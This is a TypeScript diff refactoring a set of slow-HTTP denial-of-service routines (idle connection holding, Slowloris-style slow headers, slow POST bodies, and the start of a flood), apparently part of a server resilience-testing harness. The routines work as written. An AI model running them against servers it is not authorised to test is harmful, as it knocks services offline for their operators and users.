@@ -27,32 +27,37 @@ const sockets = (target: URL, n: number, onOpen: (s: Socket) => void): Socket[] 
 
 const every = (ms: number, f: () => void): NodeJS.Timeout => setInterval(f, ms);
 
+/** Stops a trickle and closes its connections. */
+const stopping =
+  (held: Socket[], trickle?: NodeJS.Timeout): Abuser['stop'] =>
+  () => {
+    clearInterval(trickle);
+    for (const s of held) s.destroy();
+  };
+
 export const ABUSES = {
   idle(target: URL, n = 300): Abuser {
-    const held = sockets(target, n, () => {});
-    return { stop: () => held.forEach((s) => s.destroy()) };
+    return { stop: stopping(sockets(target, n, () => {})) };
   },
   slowHeaders(target: URL, n = 300): Abuser {
     const held = sockets(target, n, (s) => s.write(`GET ${target.pathname} HTTP/1.1\r\nHost: ${target.host}\r\n`));
     let i = 0;
-    const t = every(500, () => held.forEach((s) => s.writable && s.write(`x-slow-${i++}: 1\r\n`)));
     return {
-      stop: () => {
-        clearInterval(t);
-        held.forEach((s) => s.destroy());
-      },
+      stop: stopping(
+        held,
+        every(500, () => held.forEach((s) => s.writable && s.write(`x-slow-${i++}: 1\r\n`))),
+      ),
     };
   },
   slowBodies(target: URL, n = 300): Abuser {
     const held = sockets(target, n, (s) =>
       s.write(`POST ${target.pathname} HTTP/1.1\r\nHost: ${target.host}\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{`),
     );
-    const t = every(500, () => held.forEach((s) => s.writable && s.write(' ')));
     return {
-      stop: () => {
-        clearInterval(t);
-        held.forEach((s) => s.destroy());
-      },
+      stop: stopping(
+        held,
+        every(500, () => held.forEach((s) => s.writable && s.write(' '))),
+      ),
     };
   },
   flood(target: URL, connections = 8): Abuser {
